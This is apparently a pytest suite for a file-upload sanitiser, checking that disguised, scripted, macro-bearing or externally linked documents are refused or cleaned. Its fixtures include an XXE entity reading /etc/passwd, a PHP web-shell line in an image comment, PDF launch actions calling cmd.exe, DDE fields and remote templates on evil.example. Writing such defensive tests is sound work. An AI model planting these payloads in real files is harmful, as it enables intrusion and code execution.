"""UP 23 to 50: what a file is, its content says; what could harm whoever opens it is refused."""

import pikepdf
import pytest
from pikepdf import Array, Dictionary, Name

from tests.resources.cleaning import documents, pictures
from tests.resources.cleaning.documents import BOOK, LETTER
from tests.resources.cleaning.hands import CANARY, betrays, case, codes, give, refusal

HTML = b"<!doctype html><script>alert(1)</script>"
PROGRAM = b"MZ\x90\0\x03\0\0\0" + b"\0" * 500
ENTITY = b'<!DOCTYPE a [<!ENTITY e SYSTEM "file:///etc/passwd">]>'


def _script_by_name(document):
    action = Dictionary(S=Name.JavaScript, JS="app.alert(1)")
    document.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array(["a", document.make_indirect(action)])))


def _script_of_page(document):
    document.pages[0].obj.AA = Dictionary(O=Dictionary(S=Name.JavaScript, JS="app.alert(1)"))


def _script_in_disguise(document):
    document.Root.OpenAction = Dictionary(S=Name("/J#61vaScript".replace("#61", "a")), JS=document.make_stream(b"1"))


def _docx(**more):
    return documents.related(documents.word(), LETTER, **more)


REFUSED = {
    "UP-23 HTML named .pdf": ("x.pdf", HTML, "other_content"),
    "UP-24 SVG with script": ("x.svg", b"<svg><script>alert(1)</script></svg>", "drawing"),
    "UP-25 SVG with outside reference": ("x.svg", b'<svg><image href="https://x.example"/></svg>', "drawing"),
    "UP-25 SVG named .png": ("x.png", b"<svg><script>alert(1)</script></svg>", "other_content"),
    "UP-26 docx with external entity": (
        "x.docx",
        documents.with_parts(
            documents.word(), replaced={"word/document.xml": [(b"<w:document", ENTITY + b"<w:document")]}
        ),
        "entities",
    ),
    "UP-27 program named .docx": ("x.docx", PROGRAM, "program"),
    "UP-28 .docm": ("x.docm", documents.word(), "macros"),
    "UP-28 .docm named .docx": (
        "x.docx",
        documents.with_parts(
            documents.word(),
            replaced={
                "[Content_Types].xml": [
                    (
                        b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
                        b"application/vnd.ms-word.document.macroEnabled.main+xml",
                    )
                ]
            },
        ),
        "macros",
    ),
    "UP-29 macro inside .docx": (
        "x.docx",
        documents.with_parts(documents.word(), {"word/vbaProject.bin": b"x"}),
        "macros",
    ),
    "UP-29 macro under another name": (
        "x.docx",
        _docx(kind="vbaProject", target="notes.bin", parts={"word/notes.bin": b"x"}),
        "macros",
    ),
    "UP-30 docx with remote template": (
        "x.docx",
        _docx(kind="attachedTemplate", target="https://evil.example/t.dotm", outside=True),
        "template_outside",
    ),
    "UP-30 docx with template on a share": (
        "x.docx",
        _docx(kind="attachedTemplate", target="file:///\\\\evil.example\\t.dotm", outside=True),
        "template_outside",
    ),
    "UP-30 docx with picture from elsewhere": (
        "x.docx",
        _docx(kind="image", target="https://evil.example/t.png", outside=True),
        "outside_link",
    ),
    "UP-31 xlsx with DDE": ("x.xlsx", documents.workbook_that_calls(), "outside_link"),
    "UP-31 xlsx with outside link": (
        "x.xlsx",
        documents.related(
            documents.saved(documents.workbook()),
            BOOK,
            "externalLink",
            "externalLinks/externalLink1.xml",
            parts={"xl/externalLinks/externalLink1.xml": "<externalLink/>"},
        ),
        "outside_link",
    ),
    "UP-31 docx with DDE field": (
        "x.docx",
        documents.in_letter(
            '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DD</w:instrText></w:r>'
            '<w:r><w:instrText>EAUTO c:\\\\x</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
        ),
        "outside_link",
    ),
    "UP-31 docx with link to a device": (
        "x.docx",
        _docx(kind="hyperlink", target="file:///C:/Users/somebody/x.docx", outside=True),
        "unsafe_link",
    ),
    "UP-31 docx with document inside": (
        "x.docx",
        _docx(kind="oleObject", target="embeddings/a.bin", parts={"word/embeddings/a.bin": b"x"}),
        "embedded",
    ),
    "UP-31 docx with link to a device within": (
        "x.docx",
        _docx(kind="hyperlink", target="file:///C:/Users/somebody/x.docx"),
        "unsafe_link",
    ),
    "UP-31 docx that is a picture, and read as a letter": (
        "x.docx",
        documents.with_parts(
            documents.word(),
            replaced={
                "_rels/.rels": [
                    (
                        b"</Relationships>",
                        b'<Relationship Id="a" Type="x/image" Target="word/document.xml"/></Relationships>',
                    )
                ]
            },
        ),
        "broken",
    ),
    "UP-31 odt with picture in its text": (
        "x.odt",
        documents.with_parts(
            documents.open_text(),
            replaced={
                "content.xml": [(b"</office:text>", b"<office:binary-data>AAAA</office:binary-data></office:text>")]
            },
        ),
        "picture_inside",
    ),
    "UP-31 docx with what nobody knows": (
        "x.docx",
        _docx(kind="novelty", target="novelty.xml", parts={"word/novelty.xml": "<a/>"}),
        "unknown_part",
    ),
    "UP-32 odt with macro": (
        "x.odt",
        documents.with_parts(documents.open_text(), {"Basic/Standard/Module1.xml": "<a/>"}),
        "macros",
    ),
    "UP-32 odt with listener": (
        "x.odt",
        documents.with_parts(
            documents.open_text(),
            replaced={
                "content.xml": [
                    (
                        b"<office:body>",
                        b'<office:scripts xmlns:s="urn:oasis:names:tc:opendocument:xmlns:script:1.0">'
                        b"<s:event-listener/></office:scripts><office:body>",
                    )
                ]
            },
        ),
        "macros",
    ),
    "UP-32 odt with picture from elsewhere": (
        "x.odt",
        documents.with_parts(
            documents.open_text(),
            replaced={
                "content.xml": [
                    (
                        b"</office:text>",
                        b'<d:image xmlns:d="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" '
                        b'xmlns:xlink="http://www.w3.org/1999/xlink" xlink:href="https://evil.example/a.png"/></office:text>',
                    )
                ]
            },
        ),
        "outside_link",
    ),
    "UP-33 PDF with JavaScript": ("x.pdf", documents.pdf_that_acts(S=Name.JavaScript, JS="app.alert(1)"), "pdf_script"),
    "UP-33 PDF with script by name": ("x.pdf", documents.pdf(changed=_script_by_name), "pdf_script"),
    "UP-33 PDF with script of a page": ("x.pdf", documents.pdf(changed=_script_of_page), "pdf_script"),
    "UP-33 PDF with script in a stream": ("x.pdf", documents.pdf(changed=_script_in_disguise), "pdf_script"),
    "UP-33 PDF with script written otherwise": (
        "x.pdf",
        documents.pdf_that_acts(S=Name.JavaScript, JS="1").replace(b"/JavaScript", b"/J#61v#61Script"),
        "pdf_script",
    ),
    "UP-34 PDF with launch action": ("x.pdf", documents.pdf_that_acts(S=Name.Launch, F="cmd.exe"), "pdf_launch"),
    "UP-34 PDF with launch after another action": (
        "x.pdf",
        documents.pdf_that_acts(S=Name.URI, URI="https://x.example", Next=Dictionary(S=Name.Launch, F="cmd.exe")),
        "pdf_launch",
    ),
    "UP-34 PDF that sends": ("x.pdf", documents.pdf_that_acts(S=Name.SubmitForm, F="https://x.example"), "pdf_sends"),
    "UP-34 PDF with embedded file": ("x.pdf", documents.pdf_with_attachment(), "pdf_attachment"),
    "UP-34 PDF with film": ("x.pdf", documents.pdf_with_annotation(Subtype=Name.RichMedia), "pdf_media"),
    "UP-34 PDF that leads to a device": (
        "x.pdf",
        documents.pdf_with_annotation(Subtype=Name.Link, A=Dictionary(S=Name.URI, URI="file:///C:/x")),
        "unsafe_link",
    ),
    "UP-35 encrypted PDF": ("x.pdf", documents.pdf(encryption=pikepdf.Encryption(owner="a", user="b")), "pdf_locked"),
    "UP-35 PDF with restrictions": ("x.pdf", documents.pdf(encryption=pikepdf.Encryption(owner="a")), "pdf_locked"),
    "UP-36 HTML before a PDF": ("x.pdf", HTML + documents.pdf(), "other_content"),
    "UP-39 .html": ("x.html", HTML, "web_page"),
    "UP-39 .xhtml": ("x.xhtml", HTML, "web_page"),
    "UP-39 .mht": ("x.mht", HTML, "web_page"),
    "UP-40 .js": ("x.js", b"alert(1)", "web_page"),
    "UP-40 .css": ("x.css", b"a{}", "web_page"),
    "UP-41 .eml": ("x.eml", b"From: a@b.example\n\nhi", "letter"),
    "UP-41 .msg": ("x.msg", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "letter"),
    "UP-42 .lnk": ("x.lnk", b"L\0\0\0", "shortcut"),
    "UP-42 .url": ("x.url", b"[InternetShortcut]", "shortcut"),
    "UP-43 .zip": ("x.zip", documents.word(), "archive"),
    "UP-43 archive named .docx": (
        "x.docx",
        documents.with_parts(documents.open_text(), {"notes.txt": "notes"}),
        "other_content",
    ),
    "UP-44 .tar.gz": ("x.tar.gz", b"\x1f\x8b\x08" + b"\0" * 100, "archive"),
    "UP-50 text named .mp3": ("x.mp3", b"not a sound at all", "other_content"),
    "UP-50 picture named .mp4": ("x.mp4", pictures.jpeg(), "other_content"),
    "UP-50 MP4 of nothing": ("x.mp4", b"\0\0\0\x18ftypisom\0\0\0\0isommp42" + b"\0" * 900, "other_content"),
    "UP-50 WebM of nothing": ("x.webm", b"\x1a\x45\xdf\xa3\x9f\x42\x82\x84webm" + b"\0" * 900, "other_content"),
    "other: old Office": ("x.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "old_office"),
    "other: locked docx": ("x.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "locked_office"),
    "other: PNG named .jpg": ("x.jpg", pictures.png(), "other_content"),
    "other: zeros named .txt": ("x.txt", b"abc\0def", "other_content"),
    "other: control letters in .txt": ("x.txt", b"abc\x01def", "not_text"),
}


@pytest.mark.parametrize(("name", "content", "reason"), REFUSED.values(), ids=REFUSED)
def test_what_could_harm_is_refused(name, content, reason, tmp_path):
    assert refusal(content, name, tmp_path) == reason


@case("UP-36 HTML after a PDF")
def test_what_stands_behind_a_pdf_is_left_behind(tmp_path):
    cleaned = give(documents.pdf() + HTML + CANARY.encode(), "x.pdf", tmp_path)

    assert b"<script" not in cleaned.path.read_bytes()
    assert betrays(cleaned.path.read_bytes()) == set()


@case("UP-37 GIF and script")
def test_a_picture_that_is_a_script_is_made_anew(tmp_path):
    cleaned = give(pictures.gif_that_is_a_script(), "x.gif", tmp_path)

    assert b"alert" not in cleaned.path.read_bytes()
    assert codes(cleaned.found) == {"picture_texts", "added_data"}


@case("UP-38 code in a comment")
def test_code_in_the_comment_of_a_photo_is_gone(tmp_path):
    cleaned = give(pictures.jpeg(comment=b"<?php system($_GET[0]); ?>"), "x.jpg", tmp_path)

    assert b"php" not in cleaned.path.read_bytes()


class TypedUpload:
    """An upload whose sender says that it is something else."""

    content_type = "text/html"

    def __init__(self, content):
        import io

        self.file = io.BytesIO(content)
        self.seek, self.read = self.file.seek, self.file.read


@case("UP-45 false content type")
def test_what_the_sender_says_a_file_is_counts_for_nothing(tmp_path):
    from resources.cleaning import clean

    assert clean(TypedUpload(documents.pdf()), "x.pdf", tmp_path).media_type == "application/pdf"


@pytest.mark.parametrize(
    ("content", "kept"),
    [
        pytest.param(HTML, HTML, id="UP-46 HTML"),
        pytest.param(b"+ADw-script+AD4-alert(1)", b"+ADw-script+AD4-alert(1)", id="UP-47 UTF-7"),
        pytest.param(HTML.decode().encode("utf-16"), HTML, id="UP-47 UTF-16"),
        pytest.param("Été à l’œuvre".encode("cp1252"), "Été à l’œuvre".encode(), id="other: Windows letters"),
        pytest.param(b"a\r\nb\rc", b"a\nb\nc", id="other: line ends"),
    ],
)
def test_text_that_looks_like_html_stays_text(content, kept, tmp_path):
    cleaned = give(content, "x.txt", tmp_path)

    assert cleaned.path.read_bytes() == kept
    assert cleaned.media_type == "text/plain"


@case("UP-48 formulas in CSV")
def test_formulas_stay_in_a_table_that_is_only_kept(tmp_path):
    cleaned = give(b"a,=1+1\n", "x.csv", tmp_path)

    assert (cleaned.path.read_bytes(), cleaned.media_type) == (b"a,=1+1\n", "text/csv")
